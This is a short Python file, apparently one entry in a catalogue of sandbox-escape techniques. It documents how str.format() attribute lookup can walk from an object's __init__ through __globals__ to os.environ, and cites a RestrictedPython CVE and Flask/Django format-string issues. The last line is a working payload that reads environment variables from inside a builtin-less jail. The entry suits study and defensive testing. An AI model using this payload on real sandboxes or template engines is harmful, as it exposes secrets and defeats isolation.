"""str.format() reads attributes, of modules in reach too.

Known from: CVE-2023-41039 of RestrictedPython; format strings of Flask and Django
Effect: environment
Host: import os
Host: class Host:
Host:     def __init__(self): pass
Host: host = Host()
Given: host
Jail: no builtins
"""
answer = "{0.__init__.__globals__[os].environ}".format(host)
